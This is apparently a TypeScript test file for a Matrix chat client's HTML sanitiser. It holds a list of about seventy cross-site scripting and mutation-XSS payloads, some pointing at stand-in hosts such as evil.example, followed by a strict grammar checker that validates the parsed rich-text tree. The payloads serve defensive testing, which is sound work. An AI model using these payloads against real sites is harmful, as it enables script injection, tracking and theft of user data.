// For tests: texts made to do harm, and a judge that knows the closed grammar of the tree and nothing of how it is made.

import type { Block, Inline, MathNode, RichText } from './tree.ts'

/** T01, T03: elements, attributes and namespaces that must leave nothing behind. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '<img src="mxc://a/b" onerror=alert(1) onload=alert(1) style="position:fixed">',
  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:x">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="blob:https://x/y">x</a>', '<a href="ms-settings:">x</a>',
  '<a href="smb://evil/x">x</a>', '<a href="//evil.example">x</a>', '<a href="/relative">x</a>', '<a href="https://x.example" onclick=alert(1) target=_top ping="//e" download>x</a>',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg onload=alert(1)>', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math href="javascript:alert(1)">CLICK</math>', '<style>*{display:none}</style>x', '<p style="background:url(//evil.example)">x</p>',
  '<form action="//evil.example"><input name=p type=password><button formaction="javascript:alert(1)">go</button></form>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">',
  '<base href="//evil.example/"><a href="x">x</a>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<link rel=stylesheet href=//evil.example>', '<object data=x></object><embed src=x>', '<video><source onerror=alert(1)></video>',
  '<details ontoggle=alert(1) open><summary onfocus=alert(1)>s</summary>t</details>', '<body onload=alert(1)>x', '<template><img src=x onerror=alert(1)></template>', '<marquee onstart=alert(1)>x</marquee>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">', '<b/onmouseover=alert(1)>x</b>', '<a<b href=javascript:alert(1)>x</a>', '<a href="https://a" href="javascript:alert(1)">x</a>',
  '<img src="https://evil.example/track.gif">', '<img src="mxc://../../_matrix/client/v3/account/whoami">', '<img src="mxc://a/b?x=1">', '<img src="mxc://a/../b">', '<img srcset="https://evil.example 1x" src="mxc://a/b">', '<img src="data:image/svg+xml,<svg/onload=alert(1)>">',
  '<span data-mx-color="red;background:url(//e)">x</span>', '<span data-mx-color="#ff0000" style="x" class="y" id="app">x</span>', '<font color="expression(alert(1))">x</font>', '<code class="language-js x\' onload=alert(1)">x</code>',
  '<span data-mx-maths="\\href{javascript:alert(1)}{x}">x</span>', '<span data-mx-maths="\\htmlData{onclick=alert(1)}{x}">x</span>', '<div data-mx-maths="\\includegraphics{https://evil.example/x.png}">x</div>',
  '<a href="https://matrix.to/#/@a:b.c/../../x">x</a>', '<a href="https://matrix.to/#/javascript:alert(1)">x</a>', '<a href="matrix:u/a%3Ab%0ac">x</a>', '<a id=location href="https://x">x</a><img name=cookie src="mxc://a/b">',
  '<mx-reply><blockquote>words in a mouth</blockquote></mx-reply>said', '<table><caption><script>alert(1)</script></caption><tr><td onclick=x>1', '<ol start="1e9999"><li>x', '<h1 id="__proto__">x</h1>', '<constructor><__proto__ a=b>x', '<p __proto__=x constructor=y>t</p>', '\u0000<script\u0000>alert(1)</script>', '<​script>x</​script>', '<p>\u202Etxt.exe\u202C \u2066x\u2069</p>',
]

const HREF = /^(?:https?:\/\/[^\s"'<>\\]+|mailto:[^\s"'<>\\]+)$/
const MXC = /^mxc:\/\/[A-Za-z0-9.:[\]-]+\/[A-Za-z0-9_-]+$/
const COLOUR = /^#[0-9a-f]{6}$/
const MATHML = /^(?:math|m(?:row|i|n|o|text|s|space|frac|sqrt|root|style|padded|phantom|sub|sup|subsup|under|over|underover|multiscripts|prescripts|table|tr|td))$/
const MATH_ATTR = /^(?:displaystyle|stretchy|symmetric|fence|separator|largeop|movablelimits|accent|accentunder|linethickness|lspace|rspace|minsize|maxsize|width|height|depth|voffset|mathcolor|mathbackground|display|form|scriptlevel|mathvariant|class)$/
// Bidi controls and everything else that reorders or hides text.
const REORDERS = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/

const only = (value: object, keys: string): void => {
  const found = Object.keys(value).sort().join(' ')
  if (found !== keys.split(' ').sort().join(' ')) throw new Error(`fields ${found} instead of ${keys}`)
}
const check = (is: boolean, what: string): void => {
  if (!is) throw new Error(`not lawful: ${what}`)
}
const words = (s: unknown): void => {
  check(typeof s === 'string' && !REORDERS.test(s), `text ${JSON.stringify(s)}`)
}
const number = (n: unknown): void => {
  check(n === null || (typeof n === 'number' && Number.isInteger(n) && n > 0 && n <= 4096), `size ${String(n)}`)
}

function judgeMath(node: MathNode | null): void {
  if (node === null) return
  only(node, 'tag attrs c s')
  check(MATHML.test(node.tag), node.tag)
  for (const [name, value] of Object.entries(node.attrs)) check(MATH_ATTR.test(name) && /^[\w#%. +-]{1,40}$/.test(value), `${name}=${value}`)
  node.c.forEach(judgeMath)
}

function judgeInline(x: Inline): void {
  switch (x.t) {
    case 'text':
    case 'everyone':
    case 'code':
      only(x, 't s')
      words(x.s)
      return
    case 'br':
      only(x, 't')
      return
    case 'b':
    case 'i':
    case 'u':
    case 's':
    case 'sub':
    case 'sup':
      only(x, 't c')
      x.c.forEach(judgeInline)
      return
    case 'link':
      only(x, 't href host misleading c')
      check(HREF.test(x.href), x.href)
      x.c.forEach(judgeInline)
      return
    case 'user':
      only(x, 't id s me')
      check(/^@[\x21-\x7e]+:[A-Za-z0-9.:[\]-]+$/.test(x.id), x.id)
      words(x.s)
      return
    case 'room':
      only(x, 't id s eventId')
      check(/^[!#][^\s]+$/.test(x.id), x.id)
      words(x.s)
      return
    case 'math':
      only(x, 't tex mathml')
      judgeMath(x.mathml)
      return
    case 'image':
      only(x, 't mxc alt width height')
      check(MXC.test(x.mxc), x.mxc)
      words(x.alt)
      number(x.width)
      number(x.height)
      return
    case 'spoiler':
      only(x, 't reason c')
      if (x.reason !== null) words(x.reason)
      x.c.forEach(judgeInline)
      return
    case 'colour':
      only(x, 't fg bg c')
      for (const colour of [x.fg, x.bg]) check(colour === null || COLOUR.test(colour), String(colour))
      x.c.forEach(judgeInline)
  }
}

function judgeBlock(b: Block): void {
  switch (b.t) {
    case 'p':
      only(b, 't c')
      b.c.forEach(judgeInline)
      return
    case 'h':
      only(b, 't level c')
      check(b.level >= 1 && b.level <= 6, String(b.level))
      b.c.forEach(judgeInline)
      return
    case 'quote':
      only(b, 't c')
      b.c.forEach(judgeBlock)
      return
    case 'list':
      only(b, 't ordered start items')
      check(Number.isSafeInteger(b.start) && b.start >= 0, String(b.start))
      b.items.flat().forEach(judgeBlock)
      return
    case 'code':
      only(b, 't language text spans')
      check(b.language === null || /^[\w+#.-]{1,40}$/.test(b.language), String(b.language))
      words(b.text)
      for (const span of b.spans ?? []) check(span.k === null || /^[a-z_-]{1,30}$/.test(span.k), String(span.k))
      return
    case 'math':
      only(b, 't tex mathml')
      judgeMath(b.mathml)
      return
    case 'table':
      only(b, 't head rows')
      ;[...(b.head ?? []), ...b.rows.flat()].flat().forEach(judgeInline)
      return
    case 'details':
      only(b, 't summary c')
      b.summary.forEach(judgeInline)
      b.c.forEach(judgeBlock)
      return
    case 'hr':
      only(b, 't')
  }
}

/** Throws when anything in the tree is outside its grammar. */
export function judge(rich: RichText): void {
  only(rich, 'blocks plain truncated')
  words(rich.plain)
  rich.blocks.forEach(judgeBlock)
}
